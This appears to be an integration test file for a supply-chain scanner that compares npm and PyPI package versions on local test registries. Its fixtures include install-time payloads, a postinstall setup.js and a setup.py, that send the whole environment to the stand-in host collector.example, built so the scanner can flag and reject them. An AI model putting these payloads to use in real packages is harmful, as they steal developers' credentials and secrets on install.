// What is new since another version: real registries on loopback, the command line and the service as users call them.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type RunningServer, startServer } from '../../src/api/server.ts';
import { exitCodes } from '../../src/cli/exit-codes.ts';
import type { ChangedThreat, Report } from '../../src/model/report.ts';
import { clientOf } from '../api/open-service.ts';
import { runAssay } from '../cli/run-assay.ts';
import { openVerdaccio, packed, type Verdaccio } from '../fetchers/npm/verdaccio.ts';
import { type IndexServer, sdist, startIndex } from '../fetchers/pypi/index-server.ts';

const folder = mkdtempSync(join(tmpdir(), 'assay-comparison-'));
const index = 'module.exports = (text) => text.trim();\n';
const steal = `const https = require('node:https');
const request = https.request({ host: 'collector.example', method: 'POST', path: '/' });
request.end(JSON.stringify(process.env));
`;
const scripts = { postinstall: 'node setup.js' };

let verdaccio: Verdaccio;
let python: IndexServer;
let service: RunningServer;
let client: ReturnType<typeof clientOf>;
let env: Record<string, string>;

beforeAll(async () => {
  verdaccio = await openVerdaccio();
  const publish = (
    manifest: { name: string; version: string; [key: string]: unknown },
    files: Record<string, string>,
  ) => verdaccio.publish(manifest, packed(manifest, files));
  const first = { name: 'acme-trim', version: '1.0.0', main: 'index.js' };
  await publish(first, { 'index.js': index });
  await publish({ ...first, version: '1.0.1', scripts }, { 'index.js': index, 'setup.js': steal });
  await publish({ ...first, version: '1.0.2' }, { 'index.js': `${index}// tidied\n` });
  const setup = "from setuptools import setup\nsetup(name='acme-trim')\n";
  const evil = `import os, requests\nrequests.post('https://collector.example', json=dict(os.environ))\n${setup}`;
  const release = (version: string, text: string, uploadedAt: string) => ({
    ...sdist('acme-trim', version, {
      'setup.py': text,
      'PKG-INFO': `Metadata-Version: 2.1\nName: acme-trim\nVersion: ${version}\n`,
    }),
    uploadedAt,
  });
  python = await startIndex({
    'acme-trim': {
      files: [release('1.0.0', setup, '2025-01-02T03:04:05Z'), release('1.0.1', evil, '2025-02-02T03:04:05Z')],
    },
  });
  env = {
    ASSAY_ALLOW_PRIVATE_ADDRESSES: '1',
    ASSAY_CACHE_DIR: join(folder, 'cache'),
    ASSAY_NPM_REGISTRY: `${verdaccio.url}/`,
    ASSAY_PYPI_INDEX: python.url,
  };
  Object.assign(process.env, env);
  service = await startServer({ host: '127.0.0.1', port: 0, location: { dataDir: folder }, log: null });
  client = clientOf(service.url, service.firstKey ?? '');
}, 30_000);

afterAll(async () => {
  await service.close();
  for (const name of Object.keys(env)) delete process.env[name];
  await Promise.all([verdaccio.close(), python.close()]);
  rmSync(folder, { recursive: true, force: true });
});

const rulesOf = (threats: readonly ChangedThreat[] = []) => threats.map(({ ruleId }) => ruleId).sort();
const compare = async (target: string, against: string): Promise<Report> => {
  const { stdout, stderr } = await runAssay(['scan', target, '--compare', against, '--format', 'json'], { env });
  expect(stderr).toBe('');
  return JSON.parse(stdout);
};
const whatIsNew = [
  'data-exfiltration/env-dump',
  'malicious-command/lifecycle-script',
  'package-metadata/new-install-script',
];

describe('a patch that sends the environment when it is installed', () => {
  test('is told apart from the version before, and nothing else is', async () => {
    const { comparison, breakdown, threats, verdict } = await compare('npm:acme-trim@1.0.1', '1.0.0');
    expect(comparison).toMatchObject({
      against: { target: 'npm:acme-trim@1.0.0', version: '1.0.0', verdict: 'APPROVE', complete: true },
      isPatch: true,
      goneThreats: [],
      newHosts: [{ host: 'collector.example', file: 'setup.js' }],
      newPermissions: ['network', 'subprocess', 'environment'],
      newUnaskedPermissions: ['network', 'subprocess', 'environment'],
    });
    expect(rulesOf(comparison?.newThreats)).toEqual(whatIsNew);
    for (const { id, ruleId } of comparison?.newThreats ?? [])
      expect(threats.find((threat) => threat.id === id)?.ruleId).toBe(ruleId);
    // Young it is like the version before: that is a finding, and no news.
    expect(threats.map(({ ruleId }) => ruleId)).toContain('package-metadata/young-release');
    expect(breakdown).toContainEqual(
      expect.objectContaining({
        score: 6,
        because: expect.stringContaining('what 1.0.0 did not: it reaches the network'),
      }),
    );
    expect(verdict).toBe('REJECT');
  });

  test('is gone again in the next', async () => {
    const { comparison, verdict } = await compare('npm:acme-trim@1.0.2', 'previous');
    expect(comparison?.against.version).toBe('1.0.1');
    expect(comparison).toMatchObject({ newThreats: [], newHosts: [], newPermissions: [], newUnaskedPermissions: [] });
    expect(rulesOf(comparison?.goneThreats)).toEqual(whatIsNew);
    expect(verdict).toBe('APPROVE');
  });

  test('is told apart on a Python index, too', async () => {
    const { comparison } = await compare('pypi:acme-trim@1.0.1', 'previous');
    expect(comparison).toMatchObject({ against: { version: '1.0.0' }, newHosts: [{ host: 'collector.example' }] });
    expect(comparison?.newUnaskedPermissions).toEqual(['network', 'environment']);
    expect(rulesOf(comparison?.newThreats)).toContain('data-exfiltration/env-dump');
  });

  test('is told by the service, in the report as well', async () => {
    const wish = { url: 'npm:acme-trim@1.0.1', type: 'npm', compareWith: 'previous' };
    const { status, body } = await client.post(wish, {}, '/api/v1/scan-url');
    expect(status).toBe(200);
    expect(rulesOf(body.comparison.newThreats)).toEqual(whatIsNew);
    const { body: report } = await client.get(`/api/v1/report/${body.scanId}`);
    expect(report.comparison).toEqual(body.comparison);
    expect((await client.get(`/api/v1/report/${body.comparison.against.scanId}`)).body.verdict).toBe('APPROVE');
    const ajv = new Ajv2020({ strict: false, allErrors: true });
    addFormats.default(ajv);
    ajv.addSchema((await client.get('/api/v1/openapi.json')).body, 'openapi');
    const validate = ajv.compile({ $ref: 'openapi#/components/schemas/ScanUrlAnswer' });
    expect(validate(body) ? [] : validate.errors).toEqual([]);
    // Without the other version it is another question, and has another answer.
    const { body: alone } = await client.post({ url: wish.url, type: 'npm' }, {}, '/api/v1/scan-url');
    expect(alone).not.toHaveProperty('comparison');
    const { body: again } = await client.post(wish, {}, '/api/v1/scan-url');
    expect(again).toMatchObject({ cached: true, comparison: body.comparison });
  });

  test('is told to those who do not wait', async () => {
    const wish = { url: 'npm:acme-trim@1.0.1', type: 'npm', compareWith: '1.0.0' };
    const { status, body } = await client.post(wish, { prefer: 'respond-async' }, '/api/v1/scan-url');
    expect(status).toBe(202);
    await expect
      .poll(async () => (await client.get(body.statusUrl)).body.comparison?.against.version, { timeout: 20_000 })
      .toBe('1.0.0');
  });
});

test('two folders are compared, and the text says what is new', async () => {
  for (const [name, files] of Object.entries({
    old: { 'index.js': index },
    new: { 'index.js': index, 'setup.js': steal },
  })) {
    mkdirSync(join(folder, name));
    const manifest = { name: 'acme-trim', version: '1.0.0', main: 'index.js', ...(name === 'new' ? { scripts } : {}) };
    for (const [path, text] of Object.entries({ ...files, 'package.json': JSON.stringify(manifest) }))
      writeFileSync(join(folder, name, path), text);
  }
  const targets = ['scan', join(folder, 'new'), '--compare', join(folder, 'old')];
  const { stdout, code } = await runAssay(targets, { env });
  expect(stdout).toContain('(APPROVE, 0.0): 2 new, 0 gone');
  expect(stdout).toContain('new hosts: collector.example');
  expect(stdout).toContain('new when installed or loaded, unasked: network, subprocess, environment');
  expect(code).toBe(exitCodes.policyViolation);
});

test.each([
  ['npm:acme-trim@1.0.0', 'previous', exitCodes.usage, /which version came before npm:acme-trim@1\.0\.0: say which/],
  ['npm:acme-trim@1.0.1', '7.7.7', exitCodes.usage, /acme-trim@7\.7\.7/],
  [folder, 'previous', exitCodes.usage, /lies on this machine/],
])('%s against %s: there is no such thing', async (target, against, expected, message) => {
  const { code, stderr, stdout } = await runAssay(['scan', target, '--compare', against], { env });
  expect(stderr).toMatch(message);
  expect(stdout).toBe('');
  expect(code).toBe(expected);
});

test('the service never compares with a path of its own machine', async () => {
  const wish = { url: 'npm:acme-trim@1.0.1', type: 'npm' };
  const { status, body } = await client.post({ ...wish, compareWith: `file://${folder}` }, {}, '/api/v1/scan-url');
  expect(status).toBe(400);
  expect(body.error.code).toBe('VALIDATION_ERROR');
  expect((await client.post({ ...wish, compareWith: folder }, {}, '/api/v1/scan-url')).status).toBe(400);
});
